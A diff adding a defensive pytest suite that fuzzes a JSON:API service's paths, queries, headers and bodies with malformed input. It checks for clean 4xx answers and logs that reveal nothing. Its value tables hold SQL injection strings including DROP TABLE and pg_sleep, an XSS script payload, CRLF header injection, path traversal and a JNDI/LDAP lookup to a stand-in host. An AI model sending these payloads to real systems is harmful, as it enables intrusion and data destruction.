@@ -1,0 +1,664 @@
+"""Whatever is put into whatever part of a request: a 4xx that says nothing back, and a log that says nothing at all.
+
+Each test takes the good request of a route and spoils one part of it with each value of a table; what is done all the
+same is undone. What is spoilt is never repeated in an answer, but for the names that `source` points with.
+"""
+
+import base64
+import importlib
+import json
+import pkgutil
+import re
+from collections.abc import Iterator
+from copy import deepcopy
+from functools import lru_cache
+from typing import Any
+from urllib.parse import quote
+
+import pytest
+
+import wellspring
+from local.lambdas import LARGEST_PAYLOAD
+from tests.access.good_requests import (
+    CLOSED,
+    FIRST_PK,
+    NAME,
+    PIPELINE,
+    ROUTES,
+    TOKEN,
+    WITH_DOCUMENT,
+    Good,
+    Requests,
+    named,
+    pks_in,
+    secrets_in,
+)
+from tests.support.api import Reply, call, event, send
+from tests.support.databases import Database
+from tests.support.world import World
+from wellspring.errors import AlreadyExists, NotFound, WellspringError
+from wellspring.jsonapi.body import MAX_BODY_BYTES, MAX_FIELDS
+from wellspring.jsonapi.query import CURSORS, RANGE_OPERATORS
+from wellspring.jsonapi.values import MEDIA_TYPE
+from wellspring.resources import resources
+from wellspring.routes import Route
+
+# In whatever is long enough to be told from an answer's own words.
+MARK = "quetzal"
+LONG = 20_000
+DEEP = 100_000
+SIX_MEGABYTES = 6_000_000
+NOWHERE = "3fa85f64-5717-4562-b3fc-2c963f66afa6"
+
+# One of each kind; the rest goes where all of a table can be said at once.
+FEW = (
+    *(f"{NOWHERE}\x00", f"{MARK}\ud800", MARK * (LONG // len(MARK)), f"{NOWHERE}\n"),
+    f"{NOWHERE}'; DROP TABLE core_api.{MARK}; /*",
+    f'{MARK}\r\n{{"level":"ERROR","message":"{MARK}"}}',
+    f"<script>alert('{MARK}')</script>",
+)
+TEXTS = (
+    *FEW,
+    *("\x00", " ", f"\udfff{MARK}", f"{MARK}\udc00\ud800", f"{MARK}\U0001f4a3\U0010ffff"),
+    *(f"{{{NOWHERE}}}", f"urn:uuid:{NOWHERE}", NOWHERE.replace("3", "\uff13"), ",".join([NOWHERE] * (LONG // 37))),
+    f"{MARK}' OR '1'='1' --",
+    f"$${MARK}$$; SELECT pg_sleep(10)",
+    f"{MARK}\\' \\\\ \\x00 \\u0000",
+    f"%s %(id)s :id $1 ? {{0}} {{0.__class__}} {MARK}",
+    f"%{MARK}_*",
+    f"{MARK}\r\nset-cookie: sid={MARK}",
+    f"{MARK}\u2028\u2029\x85\x0b\x0c",
+    f"\x1b[2J\x1b]0;{MARK}\x07\x9b31m",
+    f'"}}]}},"{MARK}":{{"',
+    f"${{jndi:ldap://{MARK}.example/}}",
+    f"../../../{MARK}",
+    f"//{MARK}.example/",
+)
+INSTANTS = (
+    *("0000-01-01T00:00:00Z", "10000-01-01T00:00:00Z", "294277-01-09T04:00:55Z", "-4713-11-24T00:00:00Z"),
+    *("0001-01-01T00:00:00+23:59", "9999-12-31T23:59:59-23:59"),
+    *(f"2026-05-10T12:00:00{offset}" for offset in ("+99:99", "+24:00", "", "EST")),
+    *("2026-02-30T00:00:00Z", "2026-05-10T24:00:01Z", "2026-05-10T12:00:00.0000001Z", "infinity", "now()"),
+)
+# The first and the last that there are.
+EDGES = ("0001-01-01T00:00:00.000Z", "9999-12-31T23:59:59.999Z", "9999-12-31T23:59:59.999999Z")
+NUMBERS = ("-1", "0", "501", "9223372036854775808", "9" * LONG, "1e400", "1_0", "\u0663", "NaN")
+VALUES = (*TEXTS, *INSTANTS, *NUMBERS)
+# What has no place in a name, and what no answer can repeat.
+NO_TEXTS = tuple(text for text in TEXTS if re.search("[\ud800-\udfff]", text))
+NAMES = (*TEXTS, *(MARK + bracket for bracket in ("[", "]", "[]", "[][]", "[a]b", "][", "[a][b][c]")))
+QUERY_STRINGS = (
+    *("&" * 10, "=", "==", "=&=", "+", ";", "?", "#", "[", "]", "[]", "page", "page[", "page[]", "page[size"),
+    *("filter", "filter[]", "filter[[", "filter[]]", "fields", "fields[]", "fields[[]]", "sort[]"),
+    *("sort=&sort=", "include=&include=", "page[size]=1&" * LONG, "&".join(f"a{number}" for number in range(101))),
+    *(character * LONG for character in ("&", "a&", "=", "%", "%00", "[", "+")),
+)
+FORMS = ("{}", "filter[{}]", "filter[created_at][{}]", "fields[{}]", "page[{}]")
+# What JSON can say where a text or an object belongs.
+ODDITIES: tuple[Any, ...] = (
+    *(None, 10**400, [], {"data": {}}, {f"{MARK}{number}": 0 for number in range(1000)}),
+    {"data": [{"type": MARK, "id": MARK}] * 501},
+)
+# As they stand in a URL.
+ENCODED = (
+    *("%", "%zz", "%0", "%ff", "%fe%ff", "%c0%af", "%c0%80", "%e0%80%af", "%f4%90%80%80", "%ed%a0%80", "%c3"),
+    *("%00", "%0d%0aset-cookie:%20a=b", "%u0041", "%25%30%30", "%2e%2e%2f"),
+)
+# What takes a careless regular expression longer than anybody waits.
+RIDDLES = (
+    *('"a"' + ", " * LONG + "x", '"a"' + " " * LONG + "x", "," * LONG, ";" * LONG, '"\\' * LONG, '"' * LONG),
+    *("W/" * LONG, 'W/"' * LONG, 'a/b;c="' * LONG, "a" * LONG, "a/" * LONG, "a/b" + "; a=b" * LONG),
+    *(f"{MEDIA_TYPE};" + " " * LONG + '"', " " * LONG + "x", '*/*;q="' + "\\" * LONG, "*/*;q=" + "9" * LONG),
+    *("*/*;q=nan", "*/*;q=-inf", f'{MEDIA_TYPE};profile="{" " * LONG}'),
+)
+
+
+def _kinds(error: type[WellspringError]) -> Iterator[type[WellspringError]]:
+    yield error
+    for kind in error.__subclasses__():
+        yield from _kinds(kind)
+
+
+TITLES = {kind.code: kind.title for kind in _kinds(WellspringError)} | {
+    error.code: error.title
+    for resource in resources()
+    for error in (NotFound("", resource_type=resource.type), AlreadyExists("", resource_type=resource.type))
+}
+
+
+@pytest.fixture
+def requests(world: World, database: Database) -> Requests:
+    return Requests(world, database)
+
+
+@pytest.fixture(autouse=True)
+def the_log_tells_nothing(log: list[dict[str, Any]], caplog: pytest.LogCaptureFixture) -> Iterator[None]:
+    """Fail each test in whose log there is anything of the requests, or of the world."""
+    yield
+    written = json.dumps(log, ensure_ascii=False) + caplog.text
+    assert secrets_in(written, MARK, NOWHERE, "set-cookie", "<script") == []
+    assert all(re.fullmatch(r"[\x20-\x7e]*", str(value)) for line in log for value in line.values())
+
+
+@lru_cache(maxsize=64)
+def faults_of(body: str) -> list[str]:
+    """Return what no body may have; one and the same, such as the API's description, is looked at once."""
+    try:
+        # A lone surrogate is no text, and no transport's.
+        body.encode()
+    except UnicodeEncodeError as error:
+        return [error.reason]
+    too_large = ["too large"] if len(json.dumps(body)) >= LARGEST_PAYLOAD else []
+    return too_large + (pks_in(json.loads(body)) if body.startswith("{") else [])
+
+
+def told(reply: Reply, *, name: bool = False) -> None:
+    """Check what every answer to a spoilt request is like.
+
+    Args:
+        reply: the answer.
+        name: whether a name was spoilt, which `source` may point with.
+    """
+    assert 200 <= reply.status < 500
+    for value in reply.headers.values():
+        assert re.fullmatch(r"[\x20-\x7e]*", value)
+    assert faults_of(reply.body) == []
+    if reply.status < 400:
+        return
+    assert reply.headers["content-type"] == MEDIA_TYPE
+    assert not {"etag", "location", "set-cookie"} & reply.headers.keys()
+    assert reply.document.keys() == {"jsonapi", "errors"}
+    said = deepcopy(reply.document)
+    for error in said["errors"]:
+        assert error["id"] == reply.request_id
+        assert error["status"] == str(reply.status) or reply.status == 400
+        assert error["title"] == TITLES[error["code"]]
+        source = error.get("source", {})
+        assert all(isinstance(value, str) for value in source.values())
+        assert source.keys() <= {"pointer", "parameter", "header"}
+        if name:
+            error.pop("source", None)
+    assert secrets_in(json.dumps(said, ensure_ascii=False), MARK, NOWHERE) == []
+
+
+def spoilt(requests: Requests, good: Good, *, name: bool = False, **changes: Any) -> Reply:
+    """Ask with something else in some parts of a good request, and check the answer as `told` does."""
+    reply = requests.ask(good.but(**changes))
+    try:
+        told(reply, name=name)
+    except AssertionError as error:
+        error.add_note(f"{reply.status} {reply.body:.300}")
+        error.add_note(ascii(changes)[:500])
+        raise
+    return reply
+
+
+def replaced(document: Any, path: tuple[str | int, ...], value: Any) -> Any:
+    """Return a document with another value in one place; members on the way that are not there are made."""
+    if not path:
+        return value
+    step, *rest = path
+    if isinstance(step, int):
+        return [replaced(item, tuple(rest), value) if at == step else item for at, item in enumerate(document)]
+    known = document if isinstance(document, dict) else {}
+    return {**known, step: replaced(known.get(step), tuple(rest), value)}
+
+
+def places(document: Any) -> Iterator[tuple[str | int, ...]]:
+    """Give the path to each value in a document, itself among them."""
+    yield ()
+    members = (
+        document.items() if isinstance(document, dict) else enumerate(document) if isinstance(document, list) else ()
+    )
+    for step, value in members:
+        for path in places(value):
+            yield (step, *path)
+
+
+def fields(route: Route) -> Iterator[tuple[str, ...]]:
+    """Give the path to each field that the route's resource has, whoever may say it."""
+    assert route.resource is not None
+    for attribute in route.resource.attributes:
+        yield ("data", "attributes", attribute.name)
+    for relationship in route.resource.relationships:
+        for rest in ((), ("data",), ("data", "id"), ("data", "type")):
+            yield ("data", "relationships", relationship.name, *rest)
+
+
+def parameters(route: Route) -> list[str]:
+    """Return the query parameters that a route knows; for one that knows none, a name."""
+    if route.resource is None or route.operation == "delete":
+        return ["x"]
+    known = [
+        "include",
+        f"fields[{route.resource.type}]",
+        *(f"fields[{found.target}]" for found in route.resource.to_one),
+    ]
+    if route.operation != "list":
+        return known
+    known += ["sort", "page[size]", "page[after]", "page[before]", "page[total]", "filter[deleted]"]
+    known += [f"filter[{found.name}]" for found in route.resource.to_one if found.name not in route.within.values()]
+    known += [f"filter[{found.name}]" for found in route.resource.attributes if found.kind in {"boolean", "direction"}]
+    known += [f"filter[{name}][{operator}]" for name, operator in zip(TIMES, ("gte", "gt", "lt"), strict=True)]
+    of_members = route.resource.tenancy == "membership" or route.within
+    return known if of_members or "filter[workspace]" in known else [*known, "filter[workspace]"]
+
+
+TIMES = ("created_at", "updated_at", "deleted_at")
+
+
+def encoded(text: str) -> str:
+    """Return a text as it stands in a query string."""
+    return quote(text, safe="", errors="surrogatepass")
+
+
+def refusal(good: Good, status: int) -> int:
+    """Return the status of a request that is wrong in a way that has a status of its own.
+
+    What asks nothing of a request is not spoilt by it, and 403 comes before everything.
+    """
+    return good.status if good.route.resource is None or good.status == 403 else status
+
+
+# One route for each shape of request; which parts of it are read does not depend on the resource.
+OF_EACH_SHAPE = tuple({(route.operation, bool(route.resource)): route for route in CLOSED}.values())
+
+of_every_route = pytest.mark.parametrize("route", ROUTES, ids=named)
+of_each_shape = pytest.mark.parametrize("route", OF_EACH_SHAPE, ids=named)
+of_each_with_a_path = pytest.mark.parametrize("route", [route for route in ROUTES if "{" in route.path], ids=named)
+of_each_with_a_document = pytest.mark.parametrize("route", WITH_DOCUMENT, ids=named)
+of_each_without = pytest.mark.parametrize("route", [r for r in ROUTES if r not in WITH_DOCUMENT], ids=named)
+
+
+# ---- the good requests ---------------------------------------------------------------------------------
+@of_every_route
+def test_what_is_spoilt_below_is_good(requests: Requests, route: Route) -> None:
+    good = requests.good(route)
+    assert spoilt(requests, good).status == good.status
+
+
+def test_the_search_for_secrets_finds_them() -> None:
+    assert secrets_in(f"{NAME} {TOKEN}") == [NAME, TOKEN, TOKEN.rpartition(".")[2]]
+    assert secrets_in("SELECT id FROM core_api.companies") == ["SELECT", "FROM", "core_api"]
+    assert secrets_in(f'"{FIRST_PK + 12}"') == [str(FIRST_PK + 12)]
+    assert secrets_in("DELETE /v1/companies/{id} 3fa85f64", "3fa8") == ["3fa8"]
+    assert pks_in({"a": [{"workspace_pk": 1}, FIRST_PK + 1, f"key {FIRST_PK + 2}"]}) == [
+        "workspace_pk",
+        str(FIRST_PK + 1),
+        str(FIRST_PK + 2),
+    ]
+
+
+def test_an_answer_that_tells_something_is_caught() -> None:
+    error = {"id": "1", "status": "404", "code": "NOT_FOUND", "title": "Not found", "detail": "There is no such path."}
+
+    def answer(status: int = 404, content_type: str = MEDIA_TYPE, **changes: Any) -> Reply:
+        document = {"jsonapi": {"version": "1.1"}, "errors": [{**error, **changes}]}
+        return Reply(status, {"content-type": content_type}, json.dumps(document), "1", document)
+
+    told(answer())
+    told(answer(source={"parameter": MARK}), name=True)
+    for wrong in (
+        answer(500),
+        answer(content_type="application/json"),
+        answer(id="2"),
+        answer(code="MISSING"),
+        answer(title="Missing"),
+        answer(detail=f"There is no {MARK}."),
+        answer(detail=f"{NAME} is not yours."),
+        answer(detail=f"Key (pk)=({FIRST_PK}) exists."),
+        answer(source={"parameter": MARK}),
+        answer(meta={"workspace_pk": 1}),
+    ):
+        with pytest.raises((AssertionError, KeyError)):
+            told(wrong)
+
+
+# ---- paths ---------------------------------------------------------------------------------------------
+@of_each_with_a_path
+def test_what_is_no_id_in_a_path_is_absent(requests: Requests, route: Route) -> None:
+    good = requests.good(route)
+    # A document that says the id too contradicts the path.
+    expected = refusal(good, 409 if route.operation == "update" else 404)
+    for name in good.parameters:
+        for value in VALUES:
+            assert spoilt(requests, good, parameters={**good.parameters, name: value}).status == expected
+
+
+@of_each_with_a_path
+def test_what_is_no_text_in_a_path_is_absent(requests: Requests, route: Route) -> None:
+    good = requests.good(route)
+    for name in good.parameters:
+        for value in ENCODED:
+            url = route.path.format(**{**good.parameters, name: value})
+            reply = call(route.method, url, good.caller, good.document)
+            told(reply)
+            assert reply.status in {403, 404, 409}
+
+
+PATHS = (
+    *("/{}", "{}", "/v1/{}", "/v1/{}/", "/v1/workspace-groups/{}/", "/v1/workspace-groups/{}/workspaces/{}/"),
+    *("/v1/workspace-groups//{}/", "//{}/v1/workspace-groups/", "/v1/workspace-groups/{}////", "/docs/{}"),
+)
+
+
+@pytest.mark.parametrize("pattern", PATHS)
+@pytest.mark.parametrize("method", ["GET", "POST", "BREW\r\n"])
+def test_a_path_that_no_route_has_is_404_405_or_308_without_a_word_of_it(pattern: str, method: str) -> None:
+    for value in (*VALUES, "/" * LONG, "a/" * LONG):
+        reply = send(event(pattern.replace("{}", value), "", PIPELINE, method=method, route="$default"))
+        told(reply)
+        assert reply.status in {404, 405, 308}
+        location = reply.headers.get("location", "/v1/")
+        assert location.startswith("/v1/") or location == "/docs"
+        assert re.fullmatch(r"[\w/%.~?=&:-]*", location, re.ASCII)
+
+
+# ---- queries -------------------------------------------------------------------------------------------
+@of_every_route
+def test_a_value_of_no_form_in_a_query_is_400_and_names_its_parameter(requests: Requests, route: Route) -> None:
+    good = requests.good(route)
+    known = parameters(route)
+    # One cursor at a time; all others tell their problems together.
+    for asked in ([name for name in known if name not in CURSORS], *([name] for name in known if name in CURSORS)):
+        for value in VALUES:
+            reply = spoilt(requests, good, query="&".join(f"{name}={encoded(value)}" for name in asked))
+            assert reply.status == refusal(good, 400)
+            if reply.status == 400 and value not in NO_TEXTS:
+                assert reply.sources == [{"parameter": name} for name in asked]
+
+
+@of_every_route
+def test_a_value_that_is_no_text_in_a_query_is_400(requests: Requests, route: Route) -> None:
+    good = requests.good(route)
+    for value in (*ENCODED, *NO_TEXTS):
+        query = "&".join(f"{name}={value}" for name in parameters(route) if name != "page[before]")
+        assert spoilt(requests, good, query=query).status == refusal(good, 400)
+
+
+@of_every_route
+def test_a_name_in_a_query_comes_back_in_its_source_and_nowhere_else(requests: Requests, route: Route) -> None:
+    good = requests.good(route)
+    for form in FORMS:
+        written = [form.replace("{}", name) for name in NAMES if name not in NO_TEXTS]
+        reply = spoilt(requests, good, name=True, query="&".join(f"{encoded(name)}=1" for name in written))
+        assert reply.status == refusal(good, 400)
+        if reply.status == 400:
+            assert reply.sources == [{"parameter": name} for name in written]
+        for name in NO_TEXTS:
+            assert spoilt(requests, good, query=f"{encoded(form.replace('{}', name))}=1").status == refusal(good, 400)
+
+
+@of_each_shape
+def test_a_name_in_a_query_that_no_gateway_would_send_is_400_or_means_nothing(requests: Requests, route: Route) -> None:
+    good = requests.good(route)
+    for name in NAMES:
+        for form in FORMS[:2]:
+            query = form.replace("{}", name).replace("&", "")
+            assert spoilt(requests, good, name=True, query=query).status in {good.status, 400}
+
+
+@of_every_route
+def test_a_query_string_of_no_form_is_400_or_empty(requests: Requests, route: Route) -> None:
+    good = requests.good(route)
+    for query in QUERY_STRINGS:
+        assert spoilt(requests, good, name=True, query=query).status in {good.status, 400}
+
+
+@pytest.mark.parametrize("route", [route for route in ROUTES if route.operation == "list"], ids=named)
+def test_the_first_and_the_last_times_there_are_are_times(requests: Requests, route: Route) -> None:
+    good = requests.good(route)
+    for edge in EDGES:
+        query = "&".join(f"filter[{name}][{operator}]={edge}" for name in TIMES for operator in RANGE_OPERATORS)
+        assert spoilt(requests, good, query=query).status == 200
+
+
+# ---- headers -------------------------------------------------------------------------------------------
+IGNORED = (
+    *("authorization", "cookie", "host", "user-agent", "referer", "origin", "forwarded", "x-forwarded-for"),
+    *("x-forwarded-host", "x-request-id", "x-amzn-trace-id", "x-http-method-override", "x-original-url", "prefer"),
+    *("range", "expect", "transfer-encoding", "accept-language", "accept-encoding", "accept-charset"),
+)
+
+
+@of_every_route
+def test_headers_that_mean_nothing_here_change_nothing(requests: Requests, route: Route) -> None:
+    good = requests.good(route)
+    for first in range(0, len(TEXTS), len(IGNORED)):
+        values = TEXTS[first : first + len(IGNORED)]
+        headers = dict(zip(IGNORED, values * len(IGNORED), strict=False)) | {value: value for value in values}
+        assert spoilt(requests, good, headers=headers).status == good.status
+
+
+@of_each_shape
+def test_a_header_of_no_form_is_refused_or_changes_nothing(requests: Requests, route: Route) -> None:
+    good = requests.good(route)
+    refusals = {"accept": {406}, "content-type": {415}, "if-match": {400, 412}, "if-none-match": {400}}
+    for header, statuses in (refusals | {"idempotency-key": {400}}).items():
+        for value in (*FEW, *RIDDLES):
+            reply = spoilt(requests, good, headers={header: value})
+            assert reply.status in statuses | {good.status}
+            if reply.status in statuses - {good.status}:
+                assert [source["header"].lower() for source in reply.sources] == [header]
+
+
+@of_each_with_a_document
+def test_a_document_needs_its_media_type(requests: Requests, route: Route) -> None:
+    good = requests.good(route)
+    for value in TEXTS:
+        assert spoilt(requests, good, headers={"content-type": value}).status == 415
+
+
+def test_no_regular_expression_can_be_made_to_try_again_and_again() -> None:
+    """Each repeat without bound is possessive: what it took it never gives back, so nothing is read twice."""
+    known = {f"{module}.{name}": pattern for module, name, pattern in regular_expressions()}
+    assert {"wellspring.handlers.conditions._TAGS", "wellspring.jsonapi.media._ELEMENT"} <= known.keys()
+    assert {name: pattern.pattern for name, pattern in known.items() if gives_back(pattern)} == {}
+
+
+@pytest.mark.parametrize("pattern", [r"a*", r"(?:a|b)+?", r"x(?:,a{2,})*+"])
+def test_one_that_can_is_found(pattern: str) -> None:
+    assert gives_back(re.compile(pattern))
+
+
+def test_what_looks_for_it_takes_no_offence_at_others() -> None:
+    assert not gives_back(re.compile(r"(?:,\s*+[a-z]{1,9})*+x?"))
+
+
+def regular_expressions() -> Iterator[tuple[str, str, re.Pattern[str]]]:
+    """Give each regular expression of the product: its module, its name and itself."""
+    for module in pkgutil.walk_packages(wellspring.__path__, "wellspring."):
+        if not module.name.endswith("__main__"):
+            for name, value in vars(importlib.import_module(module.name)).items():
+                if isinstance(value, re.Pattern):
+                    yield module.name, name, value
+
+
+def gives_back(pattern: re.Pattern[str]) -> bool:
+    """Say whether a regular expression has a repeat without bound that may give back what it took."""
+    parser = importlib.import_module("re._parser")
+
+    def steps(tree: Any) -> Iterator[tuple[Any, Any]]:
+        for step in tree:
+            match step:
+                case parser.SubPattern() | list() | tuple():
+                    if isinstance(step, tuple) and len(step) == 2:
+                        yield step
+                    yield from steps(step)
+
+    greedy = {parser.MAX_REPEAT, parser.MIN_REPEAT}
+    return any(
+        operation in greedy and argument[1] is parser.MAXREPEAT
+        for operation, argument in steps(parser.parse(pattern.pattern, pattern.flags))
+    )
+
+
+# ---- bodies --------------------------------------------------------------------------------------------
+@of_each_with_a_document
+def test_a_value_of_no_form_in_a_document_is_refused(requests: Requests, route: Route) -> None:
+    good = requests.good(route)
+    for path in dict.fromkeys([*places(good.document), *fields(route)]):
+        for value in FEW:
+            reply = spoilt(requests, good, document=replaced(good.document, path, value))
+            if path[-1:] == ("name",) and reply.status == 201:
+                # A text like any other, and it is kept to the letter.
+                assert reply.data["attributes"]["name"] == value
+            else:
+                assert 400 <= reply.status < 500
+
+
+@of_each_with_a_document
+def test_values_of_no_form_in_a_document_are_pointed_to_together(requests: Requests, route: Route) -> None:
+    good = requests.good(route)
+    said = [path for path in places(good.document) if path[1:2] == ("attributes",) and len(path) == 3]
+    related = [path for path in places(good.document) if path[1:2] == ("relationships",) and path[-1] == "id"]
+    for value in VALUES:
+        document = good.document
+        for path in (*said, *related):
+            document = replaced(document, path, value)
+        reply = spoilt(requests, good, document=document)
+        wrong = related if ("data", "attributes", "name") in said and is_name(value) else (*said, *related)
+        assert reply.status == 403 or {source["pointer"] for source in reply.sources} == {
+            "/" + "/".join(map(str, path)) for path in wrong
+        }
+
+
+@of_each_with_a_document
+def test_a_value_of_another_kind_in_a_document_is_no_fault_of_ours(requests: Requests, route: Route) -> None:
+    good = requests.good(route)
+    for path in dict.fromkeys([*places(good.document), *fields(route)]):
+        for value in ODDITIES:
+            spoilt(requests, good, name=True, document=replaced(good.document, path, value))
+
+
+@of_each_with_a_document
+def test_fields_that_nobody_knows_are_pointed_to_and_nothing_else(requests: Requests, route: Route) -> None:
+    good = requests.good(route)
+    for member in ("attributes", "relationships"):
+        document = good.document
+        for name in NAMES:
+            document = replaced(document, ("data", member, name), MARK)
+        reply = spoilt(requests, good, name=True, document=document)
+        assert reply.status == refusal(good, 422)
+        tokens = [name.encode(errors="replace").decode().replace("~", "~0").replace("/", "~1") for name in NAMES]
+        if reply.status == 422:
+            assert reply.sources == [{"pointer": f"/data/{member}/{token}"} for token in tokens]
+
+
+@of_each_with_a_document
+def test_members_that_nobody_knows_are_ignored(requests: Requests, route: Route) -> None:
+    good = requests.good(route)
+    for place in ((), ("data",)):
+        document = good.document
+        for name in NAMES:
+            document = replaced(document, (*place, name), MARK)
+        assert spoilt(requests, good, document=document).status == good.status
+
+
+def is_name(value: str) -> bool:
+    """Say whether a value can be the name of a group."""
+    return value not in NO_TEXTS and "\x00" not in value and 0 < len(value.strip()) <= len(value) <= 255
+
+
+@of_each_with_a_document
+def test_the_first_and_the_last_times_there_are_can_be_said(requests: Requests, route: Route) -> None:
+    good = requests.good(route)
+    for edge in EDGES:
+        document = replaced(good.document, ("data", "attributes", "deleted_at"), edge)
+        reply = spoilt(requests, good, document=document)
+        assert reply.status in {200, 403}
+        if reply.status == 200:
+            assert reply.data["attributes"]["deleted_at"] == edge[:23] + "Z"
+
+
+def bodies(good: Good) -> Iterator[str]:
+    """Give texts that are no document for a route."""
+    text = json.dumps(good.document)
+    yield from (
+        "",
+        " ",
+        "{",
+        "[]",
+        "null",
+        "0",
+        '""',
+        "undefined",
+        "{'data': {}}",
+        '{"data": {},}',
+        text + text,
+        text[:-1],
+    )
+    yield from (text + "\x00", "\ufeff" + text, text.replace('"', "\u201d"), text.replace(" ", "\xa0"), f"/**/{text}")
+    yield from ("[" * DEEP, "[" * DEEP + "]" * DEEP, '{"data":' * DEEP, '{"data":' * DEEP + "{}" + "}" * DEEP)
+    yield text.replace('{"data"', '{"x": ' + "[" * DEEP + "]" * DEEP + ', "data"', 1)
+    yield text.replace('{"type"', '{"meta": ' + '{"a":' * DEEP + "0" + "}" * DEEP + ', "type"', 1)
+    for number in ("NaN", "Infinity", "-Infinity", "9" * 5000, "1" * LONG, "- 1", "01", ".5", "1.", "0x1", "1e"):
+        yield text.replace('{"data"', f'{{"x": {number}, "data"', 1)
+    for name in ("data", "\\u0064ata"):
+        yield text.replace('{"data"', f'{{"{name}": null, "data"', 1)
+    for name in ("type", "t\\u0079pe", "attributes", "relationships"):
+        yield text.replace('{"type"', f'{{"{name}": null, "{name}": null, "type"', 1)
+    for character in ("\x00", "\n", "\x1b", "\ud800", "\\", "\\x", "\\u12", "\\ud8zz"):
+        yield text.replace('{"data"', f'{{"{character}": 0, "data"', 1)
+
+
+@of_each_with_a_document
+def test_what_is_no_document_is_400(requests: Requests, route: Route) -> None:
+    good = requests.good(route)
+    for body in bodies(good):
+        assert spoilt(requests, good, document=None, body=body).status == refusal(good, 400)
+
+
+@of_each_with_a_document
+def test_bytes_that_are_no_utf8_are_400(requests: Requests, route: Route) -> None:
+    good = requests.good(route)
+    text = json.dumps(good.document)
+    sent = good.event
+    for body in (
+        *(text.encode(encoding) for encoding in ("utf-16", "utf-32", "utf-8-sig", "utf-7") if encoding != "utf-7"),
+        *(text.encode().replace(b'{"data"', b'{"' + bad + b'": 0, "data"', 1) for bad in NO_UTF8),
+    ):
+        for written in (
+            base64.b64encode(body).decode(),
+            base64.b64encode(body).decode()[:-1] + "é",
+            "\ud800",
+            "=",
+            "a",
+        ):
+            sent |= {"body": written, "isBase64Encoded": True}
+            reply = send(sent)
+            told(reply)
+            assert reply.status == refusal(good, 400)
+
+
+NO_UTF8 = (b"\xff", b"\xc0\xaf", b"\xed\xa0\x80", b"\xf4\x90\x80\x80", b"\xc3", b"\xe2\x82")
+
+
+@of_each_with_a_document
+def test_a_body_of_six_megabytes_is_413(requests: Requests, route: Route) -> None:
+    good = requests.good(route)
+    text = json.dumps(good.document)
+    for body in (text + " " * SIX_MEGABYTES, f'"{"a" * SIX_MEGABYTES}"', "[" * SIX_MEGABYTES, MARK * SIX_MEGABYTES):
+        reply = spoilt(requests, good, document=None, body=body[:SIX_MEGABYTES])
+        assert reply.status == refusal(good, 413)
+        assert reply.codes == ["FORBIDDEN" if good.status == 403 else "PAYLOAD_TOO_LARGE"]
+
+
+@of_each_with_a_document
+def test_a_document_full_of_problems_is_told_one_for_all_of_a_kind(requests: Requests, route: Route) -> None:
+    good = requests.good(route)
+    for member in ("attributes", "relationships"):
+        for count, length in ((MAX_FIELDS + 1, 1), (90_000, 1), (MAX_FIELDS, MAX_BODY_BYTES // MAX_FIELDS - 100)):
+            flood = {f"{number:x}".rjust(length, "~"): 0 for number in range(count)}
+            reply = spoilt(requests, good, name=True, document=replaced(good.document, ("data", member), flood))
+            assert reply.status == refusal(good, 422)
+            if reply.status == 422 and count > MAX_FIELDS:
+                assert {"pointer": f"/data/{member}"} in reply.sources
+                assert len(reply.errors) < 10
+
+
+@of_each_without
+def test_a_body_that_nobody_reads_changes_nothing(requests: Requests, route: Route) -> None:
+    good = requests.good(route)
+    for body in (MARK * (SIX_MEGABYTES // len(MARK)), "[" * DEEP, "\x00", "\ud800", '{"data": {"id": 1}}', "NaN"):
+        assert spoilt(requests, good, body=body).status == good.status
